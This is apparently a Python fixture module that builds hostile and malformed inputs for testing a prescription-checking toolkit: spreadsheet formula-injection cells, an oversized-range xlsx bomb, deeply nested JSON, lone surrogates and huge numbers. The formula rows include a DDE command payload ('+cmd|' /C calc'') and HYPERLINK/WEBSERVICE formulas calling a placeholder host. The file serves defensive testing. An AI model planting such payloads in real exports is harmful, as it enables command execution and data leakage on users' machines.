"""Hostile and broken input (issue 16), built in one place for the unit tests and ``eval/reliability.py``.

Pure functions: each builds rows, a JSONL line, a request body, bytes or a file at the path it is given,
and returns it. None runs the toolkit or imports a test framework; the checks on what the toolkit
does with the input stay with the tests and the reliability rows. The output is the same on every
run, except the time stamps openpyxl writes into a workbook (``docProps/core.xml`` and the zip
entries' dates).

* :data:`HEADER` — the 14 HIS columns (处方号 … 科室), those of :mod:`toolkit.evaluation.bench_data`.
* :func:`his_row` — one HIS drug line: amlodipine 5 mg qd, 28 days, unless told otherwise.
* :func:`write_his_csv` — a UTF-8 CSV of :data:`HEADER` and the given rows.
* :func:`write_his_xlsx` — the same as a workbook (sheet 处方), with optional extra sheets.
* :func:`write_streamed_xlsx` — any rows into a write-only workbook (a big sheet, for streaming).
* :func:`cut_in_half` — the first half of a file's bytes (a truncated Excel export).
* :func:`formula_rows` — four prescriptions with formula-leading cells (= + - @) in 处方号, drug, doctor, department.
* :func:`formula_rows_short` — two such prescriptions (the reliability row).
* :func:`rows_sharing_one_id` — ``n`` drug lines under one 处方号, between two ordinary prescriptions.
* :func:`write_xlsx_bomb` — a 5 KB workbook with one cell at XFD1048576 (16,384 × 1,048,576 cells declared).
* :func:`with_dimension` — a copy of a workbook whose sheets declare another ``<dimension ref>`` (a lying one).
* :func:`bomb_across_scan_boundary` — sheet XML whose XFD1048576 reference starts ``cut`` bytes before 1 MiB.
* :func:`minimal_case` — a valid one-line case (amlodipine for hypertension) as a dict.
* :func:`many_items` — a case whose prescription repeats its lines ``n`` times (3,000-item prescriptions).
* :func:`deeply_nested_line` — a JSON object line whose value nests lists 5,000 deep.
* :func:`lone_surrogate_id_line` — a case as a JSONL line whose id is a lone surrogate escape.
* :func:`lone_surrogate_in_record_line` — a case line with a lone surrogate escape inside ``record``.
* :func:`surrogate_text_line` — a ``clinic extract`` line whose id is a lone surrogate escape.
* :func:`long_number` — a number of 19,999 digits (as text); :func:`long_number_line` — an extract line with it.
* :data:`FORMULA_LEADS`, :func:`is_live_formula` — the leading characters a spreadsheet runs as a formula,
  and whether a written cell would run as one (the check both callers apply to the reports).
"""

from __future__ import annotations

import csv
import json
import re
import zipfile
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

from toolkit.evaluation.bench_data import HEADER as _HEADER_LINE

__all__ = [
    "FORMULA_LEADS",
    "HEADER",
    "bomb_across_scan_boundary",
    "cut_in_half",
    "deeply_nested_line",
    "formula_rows",
    "formula_rows_short",
    "his_row",
    "is_live_formula",
    "lone_surrogate_id_line",
    "lone_surrogate_in_record_line",
    "long_number",
    "long_number_line",
    "many_items",
    "minimal_case",
    "rows_sharing_one_id",
    "surrogate_text_line",
    "with_dimension",
    "write_his_csv",
    "write_his_xlsx",
    "write_streamed_xlsx",
    "write_xlsx_bomb",
]

HEADER: list[str] = _HEADER_LINE.rstrip("\n").split(",")
"""处方号, 患者, 年龄, 性别, 诊断, 药品名称, 规格, 单次剂量, 剂量单位, 频次, 给药途径, 天数, 医生, 科室."""

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
"""A cell starting with one of these is run as a formula by Excel or LibreOffice."""

SCAN_BLOCK = 1 << 20
"""The block size the xlsx reader scans sheet XML in (``toolkit.batch.readers._scan_sheet``)."""


# --------------------------------------------------------------------------- HIS tables


def his_row(
    rx: str,
    drug: str = "苯磺酸氨氯地平片",
    dose: str = "5",
    unit: str = "mg",
    days: str = "28",
    doctor: str = "王医生",
    dept: str = "全科",
    freq: str = "qd",
) -> list[str]:
    """One HIS drug line under 处方号 ``rx`` (patient P1, 68, 男, 原发性高血压(I10), 5mg, 口服)."""
    return [
        rx,
        "P1",
        "68",
        "男",
        "原发性高血压(I10)",
        drug,
        "5mg",
        dose,
        unit,
        freq,
        "口服",
        days,
        doctor,
        dept,
    ]


def write_his_csv(path: Path, rows: Iterable[Sequence[str]]) -> Path:
    """A UTF-8 CSV (``csv`` module quoting, ``\\r\\n`` line ends) of :data:`HEADER` and ``rows``."""
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(HEADER)
        w.writerows(rows)
    return path


def write_his_xlsx(
    path: Path, rows: Iterable[Sequence[Any]], extra: dict[str, list[list[Any]]] | None = None
) -> Path:
    """A workbook: sheet 处方 with :data:`HEADER` and ``rows``, then one sheet per ``extra`` item, as given."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "处方"
    ws.append(HEADER)
    for r in rows:
        ws.append(list(r))
    for name, other in (extra or {}).items():
        o = wb.create_sheet(name)
        for r in other:
            o.append(r)
    wb.save(path)
    return path


def write_streamed_xlsx(path: Path, rows: Iterable[Sequence[Any]]) -> Path:
    """``rows`` (header included) into one sheet of a write-only workbook, without holding them in memory."""
    import openpyxl

    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet()
    for r in rows:
        ws.append(r)
    wb.save(path)
    return path


def cut_in_half(src: Path, dest: Path) -> Path:
    """``dest`` holds the first half of ``src``'s bytes (an export cut off mid-way)."""
    dest.write_bytes(src.read_bytes()[: src.stat().st_size // 2])
    return dest


def formula_rows() -> list[list[str]]:
    """Four prescriptions with =, +, -, @ leading cells in 处方号, drug, doctor and department; one dose 'abc'."""
    return [
        his_row(
            "=1+1", drug='=HYPERLINK("http://x/?"&A1,"click")', doctor="@SUM(A1)", dept="+cmd|' /C calc'!A0"
        ),
        his_row("=1+1", drug="-2+3", doctor="@SUM(A1)", dept="+cmd|' /C calc'!A0"),
        his_row("+7", drug="代文", dose="abc", doctor='=WEBSERVICE("http://x")', dept="-1+1"),
        his_row("@x", drug="阿莫西林胶囊", doctor="-医生", dept="=科室"),
    ]


def formula_rows_short() -> list[list[str]]:
    """Two prescriptions with formula-leading cells (the reliability row's input)."""
    return [
        his_row("=1+1", drug='=HYPERLINK("http://x/?"&A1,"click")', doctor="@SUM(A1)", dept="+cmd"),
        his_row("-2+3", drug="代文", dose="abc", doctor='=WEBSERVICE("http://x")', dept="-1+1"),
    ]


def rows_sharing_one_id(
    n: int, rx: str, *, drug: str, after: str, dose: str = "5", before: str = "0001"
) -> list[list[str]]:
    """Prescription ``before``, then ``n`` identical lines of ``drug`` under 处方号 ``rx``, then ``after``."""
    return [his_row(before)] + [his_row(rx, drug=drug, dose=dose)] * n + [his_row(after)]


def is_live_formula(value: Any) -> bool:
    """A text cell a spreadsheet would run: it starts with one of :data:`FORMULA_LEADS` and is not a number."""
    if not isinstance(value, str) or not value or value[0] not in FORMULA_LEADS:
        return False
    try:  # a real negative number stays numeric text; it is not a formula
        float(value)
        return False
    except ValueError:
        return True


# --------------------------------------------------------------------------- odd workbooks


def write_xlsx_bomb(path: Path) -> Path:
    """A small workbook (header, one line 0001) with a cell at XFD1048576: it declares the whole sheet range."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    ws.append(his_row("0001"))
    ws["XFD1048576"] = "x"
    wb.save(path)
    return path


def with_dimension(src: Path, ref: str, dest: Path) -> Path:
    """A copy of workbook ``src`` whose sheets declare ``<dimension ref="{ref}">`` whatever they hold."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.startswith("xl/worksheets/sheet"):
                data = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), data)
            zout.writestr(info, data)
    return dest


def bomb_across_scan_boundary(cut: int) -> bytes:
    """Sheet XML: one padded cell in row 1, then a cell at XFD1048576 whose ``<c r="XFD`` starts ``cut`` bytes
    before :data:`SCAN_BLOCK` (so a block-wise scan sees the reference split across two blocks)."""
    head = (
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData>"
    )
    bomb = b'<row r="2"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    filler = (
        SCAN_BLOCK - cut - len(head) - len(b'<row r="1"><c r="A1" t="inlineStr"><is><t></t></is></c></row>')
    )
    filler -= len(b'<row r="2">')
    return (
        head
        + b'<row r="1"><c r="A1" t="inlineStr"><is><t>'
        + b"x" * filler
        + b"</t></is></c></row>"
        + bomb
        + b"</sheetData></worksheet>"
    )


# --------------------------------------------------------------------------- JSON cases and lines


def minimal_case(case_id: Any = "A", **extra: Any) -> dict[str, Any]:
    """A valid case: age 60, 高血压 (I10), amlodipine 5 mg qd 口服 28 days; ``extra`` keys are appended."""
    return {
        "id": case_id,
        "patient": {"age": 60, "diagnoses": [{"name": "高血压", "icd10": "I10"}]},
        "prescription": {
            "items": [
                {
                    "drug": "苯磺酸氨氯地平片",
                    "dose": 5,
                    "unit": "mg",
                    "frequency": "qd",
                    "route": "口服",
                    "days": 28,
                }
            ]
        },
        **extra,
    }


def many_items(case: dict[str, Any], n: int, case_id: Any = None) -> dict[str, Any]:
    """A copy of ``case`` whose prescription holds its lines ``n`` times over (and id ``case_id`` if given)."""
    out = {**case, "prescription": {**case["prescription"], "items": list(case["prescription"]["items"]) * n}}
    if case_id is not None:
        out["id"] = case_id
    return out


def deeply_nested_line(case_id: str = "D", key: str = "x", depth: int = 5000) -> str:
    """``{"id": "<case_id>", "<key>": [[[…]]]}`` with lists nested ``depth`` deep (no newline)."""
    return '{"id": "' + case_id + '", "' + key + '": ' + "[" * depth + "]" * depth + "}"


def lone_surrogate_id_line(case: dict[str, Any], escape: str = "\\ud800") -> str:
    """``case`` as a JSON line whose quoted id is replaced by the escape ``escape`` (a lone surrogate)."""
    return json.dumps(case).replace(f'"{case["id"]}"', f'"{escape}"')


def lone_surrogate_in_record_line(case_id: str = "C") -> str:
    """A :func:`minimal_case` line with ``"record": {"主诉": "\\udfff"}`` (a lone surrogate escape, not text)."""
    return json.dumps(minimal_case(case_id, record={"主诉": "\\udfff"})).replace("\\\\udfff", "\\udfff")


def surrogate_text_line() -> str:
    """A ``clinic extract`` line whose id is the lone surrogate escape ``\\ud800``."""
    return '{"id": "\\ud800", "text": "头痛三天"}'


def long_number(digits: int = 19_999) -> str:
    """A number of ``digits`` nines, as text (beyond what int() parses by default)."""
    return "9" * digits


def long_number_line(case_id: str) -> str:
    """A ``clinic extract`` line whose text is 血压 followed by a 19,999-digit number and mmHg."""
    return json.dumps({"id": case_id, "text": "血压" + long_number() + "mmHg"})
